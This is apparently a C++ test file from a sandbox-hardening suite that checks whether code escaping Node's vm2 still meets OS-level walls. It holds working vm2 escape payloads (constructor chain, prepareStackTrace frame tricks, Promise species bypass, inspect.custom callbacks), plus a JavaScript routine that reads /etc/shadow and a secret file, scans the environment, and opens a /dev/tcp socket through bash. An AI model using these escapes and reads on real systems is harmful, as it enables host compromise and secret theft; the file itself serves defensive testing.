// Node-specific: escapes from vm2 (the kernel's second wall). Whatever an escape yields, the
// escaped code must still meet the OS walls: no /etc/shadow, no host secret file, no server
// environment, no host loopback service. A vm2 that holds is reported as such.
#include <fmt/format.h>

#include "hostile/hostile.hpp"

namespace hostile {
namespace {

// walls(proc, rep): given what an escape found, try the host through it.
const char* kWalls = R"JS(
var walls = function (proc, rep) {
  let req = null;
  try { req = proc && proc.mainModule && proc.mainModule.require.bind(proc.mainModule); } catch (e) {}
  rep.escaped = !!req;
  if (!req) return rep;
  const fs = req('fs'), cp = req('child_process');
  for (const p of ['/etc/shadow', '@SECRET_FILE@']) {
    try { rep['read ' + p] = fs.readFileSync(p, 'latin1').slice(0, 40); } catch (e) {}
  }
  try { if (JSON.stringify(proc.env).includes('@SECRET_ENV@')) rep['server env'] = 'leaked'; } catch (e) {}
  try {
    const r = cp.spawnSync('/bin/bash', ['-c', 'exec 3<>/dev/tcp/127.0.0.1/@PORT@ && head -c 40 <&3'], { timeout: 3000 });
    if (String(r.stdout).includes('HOST-LOOPBACK')) rep['host loopback'] = String(r.stdout).trim();
  } catch (e) {}
  return rep;
};
)JS";

// Contained: nothing of the host was reached (whether or not vm2 was escaped).
std::pair<bool, std::string> judge(const Json& j, const sandbox::Result& r) {
  if (!j.is_object()) return {false, "no report (" + brief(r) + ")"};
  bool breached = false;
  for (auto& [k, v] : j.items())
    if (k.rfind("read ", 0) == 0 || k == "server env" || k == "host loopback") breached = true;
  return {!breached, fmt::format("{}{}", j.value("escaped", false) ? "vm2 escaped; " : "vm2 held; ", j.dump())};
}

}  // namespace

TEST_P(Node, ConstructorEscape) {
  host::HostServices services(marker_);
  define("PORT", std::to_string(services.port()));
  auto j = json_of(last_ = js(std::string(kWalls) + R"JS(
var rep = { attempt: 'constructor' };
let proc = null;
try { proc = this.constructor.constructor('return process')(); } catch (e) { rep.error = String(e); }
try { if (!proc) proc = (() => {}).constructor('return process')(); } catch (e) {}
out(walls(proc, rep));
)JS"));
  auto [ok, detail] = judge(j, last_);
  verdict(kWalled, "this.constructor.constructor('return process')() then the host", ok && services.accepted() == 0,
          detail + fmt::format("; host accepted {}", services.accepted()));
}

TEST_P(Node, PrepareStackTrace) {
  host::HostServices services(marker_);
  define("PORT", std::to_string(services.port()));
  auto j = json_of(last_ = js(std::string(kWalls) + R"JS(
var rep = { attempt: 'prepareStackTrace' };
let proc = null;
const saved = Error.prepareStackTrace;
Error.prepareStackTrace = (e, frames) => frames;
try {
  const frames = new Error().stack;
  for (const f of (Array.isArray(frames) ? frames : [])) {
    try { const t = f.getThis(); if (t && t.process) { proc = t.process; break; } } catch (e) {}
    try { const fn = f.getFunction(); if (fn) { proc = fn.constructor('return process')(); if (proc) break; } } catch (e) {}
  }
  // A host-side TypeError (Symbol to string inside a host function) formats through our hook.
  try { Buffer.from(Symbol('x')); } catch (e) {
    try { const fr = e.stack; if (Array.isArray(fr)) for (const f of fr) { try { proc = proc || f.getThis().process; } catch (x) {} } } catch (x) {}
    try { proc = proc || e.constructor.constructor('return process')(); } catch (x) {}
  }
} catch (e) { rep.error = String(e); } finally { Error.prepareStackTrace = saved; }
out(walls(proc, rep));
)JS"));
  auto [ok, detail] = judge(j, last_);
  verdict(kWalled, "Error.prepareStackTrace frame tricks then the host", ok && services.accepted() == 0,
          detail + fmt::format("; host accepted {}", services.accepted()));
}

TEST_P(Node, PromiseSpecies) {
  host::HostServices services(marker_);
  define("PORT", std::to_string(services.port()));
  auto j = json_of(last_ = js(std::string(kWalls) + R"JS(
var rep = { attempt: 'promise species' };
var proc = null;
async function overflow() { (function deeper() { new Error().stack; deeper(); })(); }
const p = overflow();
p.constructor = {
  [Symbol.species]: class {
    constructor(executor) {
      executor(() => {}, (err) => {
        try { proc = err.constructor.constructor('return process')(); } catch (e) { rep.error = String(e); }
      });
    }
  }
};
try { p.then(); } catch (e) { rep.thenError = String(e); }
new Promise((resolve) => setTimeout(() => { out(walls(proc, rep)); resolve(0); }, 300));
)JS", 8s));
  auto [ok, detail] = judge(j, last_);
  verdict(kWalled, "a Promise[Symbol.species] sanitiser bypass then the host", ok && services.accepted() == 0,
          detail + fmt::format("; host accepted {}", services.accepted()));
}

TEST_P(Node, InspectCustom) {
  host::HostServices services(marker_);
  define("PORT", std::to_string(services.port()));
  auto j = json_of(last_ = js(std::string(kWalls) + R"JS(
var rep = { attempt: 'inspect.custom' };
var proc = null;
const bait = {
  [Symbol.for('nodejs.util.inspect.custom')]: function (depth, opts, inspect) {
    try { proc = proc || opts.stylize.constructor('return process')(); } catch (e) {}
    try { proc = proc || inspect.constructor('return process')(); } catch (e) {}
    try { proc = proc || opts.constructor.constructor('return process')(); } catch (e) {}
    return 'bait';
  },
  toString() { try { proc = proc || arguments.callee.caller.constructor('return process')(); } catch (e) {} return 'bait'; },
};
console.log(bait);
console.log('%s %o', bait, bait);
String(bait);
out(walls(proc, rep));
)JS"));
  auto [ok, detail] = judge(j, last_);
  verdict(kWalled, "util.inspect.custom host callbacks then the host", ok && services.accepted() == 0,
          detail + fmt::format("; host accepted {}", services.accepted()));
}

TEST_P(Node, AssumeEscaped) {
  // Suppose vm2 falls: a plain `node` with `process` must still meet the OS walls.
  host::HostServices services(marker_);
  define("PORT", std::to_string(services.port()));
  define("WALLS", expand(kWalls));
  last_ = sh(R"(cat > "$HOME/@M@.js" <<'EOF'
var out = (o) => console.log('@@' + JSON.stringify(o));
@WALLS@
out(walls(process, { attempt: 'plain node' }));
EOF
node "$HOME/@M@.js")");
  auto [ok, detail] = judge(json_of(last_), last_);
  verdict(kWalled, "a fully escaped node process against the OS walls", ok && services.accepted() == 0,
          detail + fmt::format("; host accepted {}", services.accepted()));
}

}  // namespace hostile
